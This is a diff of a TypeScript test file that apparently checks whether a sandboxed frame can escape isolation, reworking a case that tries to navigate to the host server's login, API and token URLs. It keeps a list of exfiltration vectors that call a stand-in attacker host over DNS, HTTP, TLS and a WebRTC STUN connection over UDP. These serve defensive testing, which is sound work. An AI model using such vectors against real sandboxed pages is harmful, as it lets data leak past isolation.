@@ -1,31 +1,34 @@
 // Ways out that ask the host page or the server, and the proof that the sinks hear everything.
-import type { Stage } from "../arena/stage.ts";
-import type { Vector } from "../arena/vector.ts";
+import { type Stage, until } from "../arena/stage.ts";
+import type { Finding, Vector } from "../arena/vector.ts";
 import type { Case } from "./case.ts";
-import { absent, check } from "./check.ts";
+import { absent, check, removed } from "./check.ts";
 
-const toHost = (path: string): Vector => ({
-  name: path,
-  alone: true,
-  attack: new Function("evil", `location.href = evil.page + ${JSON.stringify(path)};`) as Vector["attack"],
-});
+/** Case 48: where the frame goes when it wants to go to a page of the server's own. */
+async function towardsHost(stage: Stage, path: string): Promise<Finding> {
+  const code = `document.addEventListener("click", ({ target }) => { if (target.id !== "go") return; window.hostileTried = true; location.href = ${JSON.stringify(stage.target.origin + path)}; });`;
+  const control = await stage.control(code);
+  await control.clickInFrame("#go");
+  const arrived = async () => (await control.url()).startsWith(stage.target.origin);
+  await until("the control arrives", arrived, 5_000).catch(() => {});
+  const proof = await arrived();
 
-async function towardsHost(stage: Stage, { name, attack }: Vector) {
-  const tab = await stage.run(`setTimeout(() => document.querySelector("#go").addEventListener("click", () => (${attack})({ page: ${JSON.stringify(stage.target.origin)} })), 0);`);
+  const tab = await stage.run(code);
   await tab.clickInFrame("#go");
-  await stage.sinks.hits(stage.sinks.tag(48), 800);
+  // One browser shows an error in the frame, which the host page removes; another stays where it is.
+  const error = await removed(tab, 2_500).catch(() => "");
+  const tried = error !== "" || (await tab.inFrame(() => (window as any).hostileTried === true));
   const documents = (await tab.frames()).join(" ");
-  await tab.close();
-  return check(name, !documents.includes(stage.target.origin), `the frame holds ${documents || "nothing"}`);
+  const held = proof && tried && !documents.includes(stage.target.origin);
+  return check(path, held, `${error || "The frame stays where it was."} It holds ${documents}; the control arrived`);
 }
 
 const kinds: readonly Vector[] = [
-  { name: "DNS", attack: ({ host }) => fetch(`http://${host}:81/`) },
-  { name: "HTTP", attack: ({ http }) => fetch(http, { mode: "no-cors" }) },
-  { name: "TLS", attack: ({ https }) => fetch(https, { mode: "no-cors" }) },
-  { name: "address", attack: ({ ip, tag }) => fetch(`http://${ip}/${tag}`, { mode: "no-cors" }) },
+  { name: "dns", attack: ({ host }) => fetch(`http://${host}:81/`) },
+  { name: "http", attack: ({ http }) => fetch(http, { mode: "no-cors" }) },
+  { name: "tls", attack: ({ https }) => fetch(https, { mode: "no-cors" }) },
   {
-    name: "UDP",
+    name: "udp",
     attack: async ({ ip, udp }) => {
       const connection = new RTCPeerConnection({ iceServers: [{ urls: `stun:${ip}:${udp}` }] });
       connection.createDataChannel("x");
@@ -85,7 +88,7 @@ export const asks: readonly Case[] = [
     category: "exfiltration",
     async run(stage) {
       const paths = ["/", "/login", "/api/apps", "/settings", "/?token=x"];
-      return await Promise.all(paths.map((path) => towardsHost(stage, toHost(path))));
+      return await Promise.all(paths.map((path) => towardsHost(stage, path)));
     },
   },
   {
